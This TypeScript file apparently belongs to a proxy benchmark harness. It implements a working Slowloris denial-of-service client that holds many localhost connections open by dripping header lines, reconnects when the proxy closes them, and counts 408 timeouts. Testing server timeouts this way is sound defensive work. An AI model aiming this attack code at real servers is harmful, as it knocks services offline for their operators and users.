// Slowloris: N connections that each send a request head one header line at a time, one line per
// DRIP_MS per connection (start times spread over the first interval), and never finish it. A
// connection the proxy closes (408 on `timeout http-request`) is opened again, as the attack tool
// does. Usage: slowloris.js PORT N DRIP_MS
// Prints {"event":"ready","open":n} once N are open, then {"event":"count",...} every second.
import { connect, type Socket } from 'node:net';
import { emit, exitWithParent } from './emit.js';

const port = Number(process.argv[2]);
const total = Number(process.argv[3]);
const dripMs = Number(process.argv[4]);
const CONCURRENCY = 256;
exitWithParent(10 * 60_000);

const HEAD = Buffer.from('GET / HTTP/1.1\r\nHost: bench\r\nUser-Agent: slow\r\n');
let open = 0;
let connecting = 0;
let closedByProxy = 0;
let got408 = 0;
let failed = 0;
let ready = false;
const live = new Set<Socket>();
let backlog = total;

function one(): void {
  backlog--;
  connecting++;
  const s = connect(port, '127.0.0.1');
  s.setNoDelay(true);
  let up = false;
  let line = 0;
  s.on('connect', () => {
    up = true;
    connecting--;
    open++;
    live.add(s);
    s.write(HEAD);
    const first = setTimeout(() => {
      const t = setInterval(() => s.write(`X-Drip-${line++}: ${'a'.repeat(8)}\r\n`), dripMs);
      s.once('close', () => clearInterval(t));
    }, Math.random() * dripMs);
    s.once('close', () => clearTimeout(first));
    if (!ready && open >= total) {
      ready = true;
      emit('ready', { open, failed });
    }
    pump();
  });
  s.on('data', (d: Buffer) => {
    if (d.toString('latin1', 0, 12).startsWith('HTTP/1.1 408') || d.toString('latin1', 0, 12).startsWith('HTTP/1.0 408')) got408++;
  });
  s.on('error', () => {});
  s.on('close', () => {
    if (up) {
      open--;
      closedByProxy++;
      live.delete(s);
    } else {
      connecting--;
      failed++;
    }
    backlog++;
    pump();
  });
}

function pump(): void {
  while (backlog > 0 && connecting < CONCURRENCY) one();
}
pump();
setInterval(() => emit('count', { open, closedByProxy, got408, failed }), 1000);
